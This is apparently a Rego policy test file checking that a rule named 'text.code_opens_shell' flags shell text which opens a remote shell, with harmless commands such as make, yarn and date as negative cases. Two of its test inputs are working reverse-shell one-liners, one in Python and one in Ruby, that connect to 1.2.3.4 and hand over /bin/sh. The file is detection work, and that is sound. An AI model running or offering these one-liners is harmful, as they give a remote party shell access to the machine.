package regent.text.code_shell_test

import data.regent.fact_test as fact
import data.regent.text.code_shell as room

# What stands in the shell text, its facts as far as the rules look at them, and
# the rules that fire.
cases := {
	"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"1.2.3.4\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'": [{"commands": [{"program": "python", "options": [["-c", "import socket,os,pty;s=socket.socket();s.connect((\"1.2.3.4\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"]], "code": [{"language": "python", "text": "import socket,os,pty;s=socket.socket();s.connect((\"1.2.3.4\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")", "known": "static"}]}, {"program": "sh"}], "tags": {"inline_code": [0]}}, {"text.code_opens_shell"}],
	"ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"1.2.3.4\",\"4\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end; exec \"/bin/sh\"'": [{"commands": [{"program": "ruby", "options": [["-r", "socket"], ["-e", "exit if fork;c=TCPSocket.new(\"1.2.3.4\",\"4\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end; exec \"/bin/sh\""]], "code": [{"language": "ruby", "text": "exit if fork;c=TCPSocket.new(\"1.2.3.4\",\"4\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end; exec \"/bin/sh\"", "known": "static"}]}, {"program": "sh"}], "tags": {"inline_code": [0]}}, {"text.code_opens_shell"}],
	"nothing of the kind": [{"commands": [{"program": "true"}]}, set()],
	"make": [{"commands": [{"program": "make"}]}, set()],
	"yarn": [{"commands": [{"program": "yarn"}]}, set()],
	"date": [{"commands": [{"program": "date"}]}, set()],
}

test_rules[text] if {
	some text, [facts, fires] in cases
	{f.rule | some f in room.findings} == fires with input as fact.document(facts)
}
